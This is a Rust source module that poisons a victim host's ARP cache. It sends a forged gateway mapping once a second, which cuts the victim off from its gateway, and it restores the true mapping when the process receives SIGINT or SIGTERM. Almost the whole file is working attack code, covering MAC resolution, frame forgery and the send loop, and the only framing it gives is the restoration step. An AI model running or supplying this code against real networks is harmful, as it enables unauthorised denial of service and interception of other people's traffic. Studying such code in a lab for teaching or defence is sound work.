//! # ARP-Cache Poisoning With Signal-Driven Recovery
//!
//! ## Purpose
//!
//! This module cuts a victim host off its gateway by repeatedly installing a
//! forged gateway mapping in the victim's ARP cache, and restores the true
//! mapping when the process is interrupted or terminated.
//!
//! ## How it works
//!
//! The engine resolves the victim's and the gateway's MAC addresses, then
//! loops: send the forged reply, sleep one second. `SIGINT` and `SIGTERM`
//! are handled by a function restricted to async-signal-safe calls; it sets
//! the stop flag and pushes ten recovery frames through a pre-bound
//! restoration socket at one-second intervals, even while the main loop is
//! asleep. The handler's state (flag, socket descriptor, serialized
//! recovery frame) lives in a process-wide registry armed once before the
//! handlers are installed.
//!
//! ## Main components
//!
//! - `poison()`: the poisoning loop.
//! - `restore_on_signal()`: the restoration handler.

use std::io;
use std::os::fd::AsRawFd as _;
use std::sync::OnceLock;
use std::sync::atomic::{AtomicBool, AtomicI32, Ordering};
use std::thread;
use std::time::Duration;

use crate::frame::{ARP_FRAME_LEN, ArpFrame, ArpOperation};
use crate::inventory::NetInfoManager;
use crate::ipv4::Ipv4Addr;
use crate::resolve::resolve;
use crate::socket::ArpSocket;

/// Number of recovery frames sent after a termination signal.
const RECOVERY_BURST: usize = 10;
/// Pause between forged replies, and between recovery frames.
const POISON_INTERVAL: Duration = Duration::from_secs(1);

// The only state the signal handler may touch: a stop flag, the raw
// descriptor of the pre-bound restoration socket, and the serialized
// recovery frame. Armed once, before the handlers are installed.
static STOP: AtomicBool = AtomicBool::new(false);
static RECOVERY_FD: AtomicI32 = AtomicI32::new(-1);
static RECOVERY_FRAME: OnceLock<[u8; ARP_FRAME_LEN]> = OnceLock::new();

/// Reasserts the true gateway mapping on the way out. Runs in signal
/// context: no allocation, no locks, only `write`, `send`, and `sleep`.
extern "C" fn restore_on_signal(_signum: libc::c_int) {
    STOP.store(true, Ordering::SeqCst);
    let fd = RECOVERY_FD.load(Ordering::SeqCst);
    let Some(frame) = RECOVERY_FRAME.get() else {
        return;
    };
    if fd < 0 {
        return;
    }
    const NOTICE: &[u8] = b"Signal caught, restoring the victim's ARP cache...\n";
    unsafe {
        libc::write(
            libc::STDERR_FILENO,
            NOTICE.as_ptr() as *const libc::c_void,
            NOTICE.len(),
        );
    }
    for _ in 0..RECOVERY_BURST {
        let sent = unsafe {
            libc::send(
                fd,
                frame.as_ptr() as *const libc::c_void,
                frame.len(),
                0,
            )
        };
        if sent < 0 {
            break;
        }
        unsafe { libc::sleep(1) };
    }
}

/// Poisons `victim_ip`'s ARP cache until interrupted.
///
/// The forged reply tells the victim the gateway lives at our MAC, so its
/// upstream traffic lands on us (and goes nowhere). On `SIGINT`/`SIGTERM`
/// the restoration burst reasserts the real gateway MAC before the function
/// returns. Fails with an invalid-argument error when no route covers the
/// victim, and with a runtime error when the victim or gateway cannot be
/// resolved, or when poisoning was already engaged in this process.
pub fn poison(victim_ip: Ipv4Addr) -> io::Result<()> {
    let manager = NetInfoManager::instance();
    let (if_name, _route) = manager.get_best_routeinfo(victim_ip)?.ok_or_else(|| {
        io::Error::new(io::ErrorKind::InvalidInput, "No route to the victim")
    })?;
    let info = manager
        .get_netinfo(&if_name)?
        .ok_or_else(|| io::Error::other("Failed to get interface information"))?;
    let if_index = manager
        .get_interface_index(&if_name)?
        .ok_or_else(|| io::Error::other("Failed to get interface index"))?;

    let victim_mac = resolve(victim_ip)?;
    let gateway_ip = manager
        .get_gateway_ip(&if_name)?
        .ok_or_else(|| io::Error::other("Failed to get the gateway address"))?;
    let gateway_mac = resolve(gateway_ip)?;
    log::info!(
        "Poisoning {victim_ip} ({victim_mac}) against gateway {gateway_ip} ({gateway_mac}) on {if_name}"
    );

    let socket = ArpSocket::open(if_index)?;
    let restore_socket = ArpSocket::open(if_index)?;

    // The victim learns (gateway IP -> our MAC).
    let forged = ArpFrame::new(
        info.mac,
        victim_mac,
        ArpOperation::Reply,
        info.mac,
        gateway_ip,
        victim_mac,
        victim_ip,
    );
    // The true mapping, replayed by the signal handler on the way out.
    let recovery = ArpFrame::new(
        gateway_mac,
        victim_mac,
        ArpOperation::Reply,
        gateway_mac,
        gateway_ip,
        victim_mac,
        victim_ip,
    );

    RECOVERY_FRAME
        .set(recovery.to_bytes())
        .map_err(|_| io::Error::other("Poisoning was already engaged in this process"))?;
    RECOVERY_FD.store(restore_socket.as_raw_fd(), Ordering::SeqCst);
    STOP.store(false, Ordering::SeqCst);

    install_handler(libc::SIGINT)?;
    install_handler(libc::SIGTERM)?;

    while !STOP.load(Ordering::SeqCst) {
        if socket.send(&forged).is_err() {
            break;
        }
        thread::sleep(POISON_INTERVAL);
    }

    RECOVERY_FD.store(-1, Ordering::SeqCst);
    Ok(())
}

fn install_handler(signum: libc::c_int) -> io::Result<()> {
    let previous = unsafe { libc::signal(signum, restore_on_signal as libc::sighandler_t) };
    if previous == libc::SIG_ERR {
        return Err(io::Error::last_os_error());
    }
    Ok(())
}
